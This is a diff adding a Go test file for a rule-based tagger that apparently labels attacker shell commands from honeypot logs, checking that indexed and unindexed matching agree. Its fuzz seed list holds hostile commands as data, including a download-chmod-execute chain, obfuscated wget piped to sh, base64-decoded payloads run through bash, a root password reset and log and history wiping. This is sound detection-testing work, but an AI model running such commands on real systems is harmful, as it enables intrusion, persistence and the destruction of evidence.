@@ -1,0 +1,239 @@
+package tagger
+
+import (
+	"bufio"
+	"compress/gzip"
+	"encoding/json"
+	"io"
+	"os"
+	"path/filepath"
+	"reflect"
+	"runtime"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/ttpcron/ttpcron"
+	"github.com/ttpcron/ttpcron/bench/workload"
+	"github.com/ttpcron/ttpcron/tagger/shell"
+)
+
+// sampleDir holds real logs and labelled commands; it is not part of the
+// project.
+const sampleDir = "../../shared/data"
+
+// texts are what the index is tried on: a made history, the examples of every
+// rule, and the commands of real logs where there are any.
+func texts(t testing.TB) (out []string) {
+	for e := range workload.Events(workload.Options{Commands: 300, Unique: true, Seed: 7}) {
+		text, _ := e.Payload.Text("command_text")
+		out = append(out, text)
+	}
+	for _, d := range loadEmbedded().defs {
+		for _, ex := range d.examples {
+			if ex.event.Kind == ttpcron.Command {
+				out = append(out, ex.text)
+			}
+		}
+	}
+	real := realCommands(t)
+	if len(real) == 0 {
+		t.Logf("no real commands at %s: only made ones are tried", sampleDir)
+	}
+	out = append(out, real...)
+	slices.Sort(out)
+	return slices.Compact(out)
+}
+
+// realCommands returns the commands of the sample data.
+func realCommands(t testing.TB) (out []string) {
+	for _, pattern := range []string{"cowrie/*/cowrie.json*", "labelled/*.jsonl"} {
+		names, _ := filepath.Glob(filepath.Join(sampleDir, pattern))
+		for _, name := range names {
+			f, err := os.Open(name)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer f.Close()
+			var r io.Reader = f
+			if strings.HasSuffix(name, ".gz") {
+				if r, err = gzip.NewReader(f); err != nil {
+					t.Fatal(err)
+				}
+			}
+			lines := bufio.NewScanner(r)
+			lines.Buffer(nil, 8<<20)
+			for lines.Scan() {
+				var e struct{ EventID, Input, Command_Text string }
+				if json.Unmarshal(lines.Bytes(), &e) != nil {
+					continue // torn
+				}
+				if e.EventID == "cowrie.command.input" {
+					e.Command_Text = e.Input
+				}
+				if e.Command_Text != "" {
+					out = append(out, e.Command_Text)
+				}
+			}
+		}
+	}
+	return out
+}
+
+// plainRule tries one rule on a text that was taken apart, without index, cache
+// and any memory of other rules.
+func plainRule(r *runnable, text string, script *shell.Script) (matched string, ok, bounded bool) {
+	var ev evaluation
+	ev.begin(text, commandEvent(text))
+	ev.script = script
+	matched, ok = r.try(&r.check, &ev)
+	return matched, ok, ev.budget.Met
+}
+
+// every tries every rule on a text.
+func every(text string) (ids []string, bounded bool) {
+	script := shell.Parse(text, shell.Limits{})
+	for _, r := range unindexed() {
+		_, ok, met := plainRule(r, text, script)
+		bounded = bounded || met
+		if ok {
+			ids = append(ids, r.ID)
+		}
+	}
+	return ids, bounded
+}
+
+// unindexed are the rules of commands, without programs and gates to go by.
+var unindexed = sync.OnceValue(func() (out []*runnable) {
+	for _, d := range loadEmbedded().defs {
+		if slices.Contains(d.Kinds, ttpcron.Command) {
+			out = append(out, newRunnable(d, ttpcron.Command, nil))
+		}
+	}
+	return out
+})
+
+// checkSame holds that a text gets the same tags with the index and without,
+// from the cache and without, from a fresh tagger and one that was used.
+func checkSame(t *testing.T, rs *RuleSet, used *Composite, text string) {
+	t.Helper()
+	first, v1 := used.Tag(commandEvent(text), nil)
+	again, v2 := used.Tag(commandEvent(text), nil)
+	fresh, v3 := rs.Tagger(nil).Tag(commandEvent(text), nil)
+	if !reflect.DeepEqual(first, again) || !reflect.DeepEqual(first, fresh) || v1 != v2 || v1 != v3 {
+		t.Errorf("%q: %v %v, again %v %v, fresh %v %v", text, rulesOf(first), v1, rulesOf(again), v2, rulesOf(fresh), v3)
+		return
+	}
+	if v1.Bounded || v1.Skipped {
+		return
+	}
+	if want, met := every(text); !met && !reflect.DeepEqual(rulesOf(first), want) {
+		t.Errorf("%q: with the index %v, without %v", text, rulesOf(first), want)
+	}
+}
+
+// share calls do with the numbers below n, on all processors. Each worker has
+// what setUp gives it.
+func share[T any](n int, setUp func() T, do func(own T, i int)) {
+	work := make(chan int)
+	var workers sync.WaitGroup
+	for range runtime.GOMAXPROCS(0) {
+		workers.Go(func() {
+			own := setUp()
+			for i := range work {
+				do(own, i)
+			}
+		})
+	}
+	for i := range n {
+		work <- i
+	}
+	close(work)
+	workers.Wait()
+}
+
+// TestSameWithoutIndex holds that the whole pack gives each text the same tags
+// with the index and without, whatever the tagger did before.
+func TestSameWithoutIndex(t *testing.T) {
+	rs := loadEmbedded()
+	all := texts(t)
+	step := 9
+	if testing.Short() {
+		step = 90
+	}
+	share((len(all)+step-1)/step, func() *Composite { return rs.Tagger(nil) }, func(used *Composite, i int) {
+		checkSame(t, rs, used, all[i*step])
+	})
+}
+
+// TestEachRuleAlone holds that the index of a single rule, which looks at fewer
+// fields than that of the pack, leaves nothing out either: each rule is tried on
+// its own examples and on a sample of all texts.
+func TestEachRuleAlone(t *testing.T) {
+	rs := loadEmbedded()
+	all := texts(t)
+	step := 61
+	if testing.Short() {
+		step = 610
+	}
+	scripts := make([]*shell.Script, (len(all)+step-1)/step)
+	for i := range scripts {
+		scripts[i] = shell.Parse(all[i*step], shell.Limits{})
+	}
+	nothing := func() struct{} { return struct{}{} }
+	share(len(rs.defs), nothing, func(_ struct{}, i int) {
+		d := rs.defs[i]
+		k := newRuleSet([]*definition{d.certain()}, nil, rs.told).compile().kinds[ttpcron.Command]
+		if k == nil {
+			return
+		}
+		s := k.sieve()
+		same := func(text string, script *shell.Script) {
+			wanted, want, met := plainRule(newRunnable(d, ttpcron.Command, nil), text, script)
+			if met {
+				return
+			}
+			if got, ok := alone(s, text, script); got != wanted || ok != want {
+				t.Errorf("%s: %q: with its index %q %v, without %q %v", d.ID, text, got, ok, wanted, want)
+			}
+		}
+		for _, ex := range d.examples {
+			if ex.event.Kind == ttpcron.Command {
+				same(ex.text, shell.Parse(ex.text, shell.Limits{}))
+			}
+		}
+		for i, script := range scripts {
+			same(all[i*step], script)
+		}
+	})
+}
+
+// alone tries the only rule of an index on a text that was taken apart.
+func alone(s *sieve, text string, script *shell.Script) (matched string, ok bool) {
+	var ev evaluation
+	ev.begin(text, commandEvent(text))
+	s.begin()
+	s.text(text)
+	ev.programs = s.script(text, script, nil)
+	ev.script, ev.open, ev.unsifted = script, s.open, s.bounded()
+	s.candidates(func(r *runnable, _ *prepared) { matched, ok = r.try(&r.check, &ev) })
+	return matched, ok
+}
+
+func FuzzSameWithoutIndex(f *testing.F) {
+	for _, s := range []string{
+		"wget http://203.0.113.9/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a", `w'g'et http://x/a|s\h`, "echo d2hvYW1p|base64 -d|sh",
+		`/bin/busybox WGET`, "cat /etc/passwd\x00", "\u212aill -9 1", `bash -c "{echo,Y3VybA==}|{base64,-d}|bash"`, "crontab -l;uname -a&&nproc",
+		"echo \"root:x\"|chpasswd|bash", "$(which wget) x", "rm -rf /var/log/* ~/.bash_history", "nohup ./x >/dev/null 2>&1 &",
+	} {
+		f.Add(s)
+	}
+	rs := loadEmbedded()
+	used := rs.Tagger(nil)
+	f.Fuzz(func(t *testing.T, text string) {
+		if len(text) < 2000 {
+			checkSame(t, rs, used, text)
+		}
+	})
+}
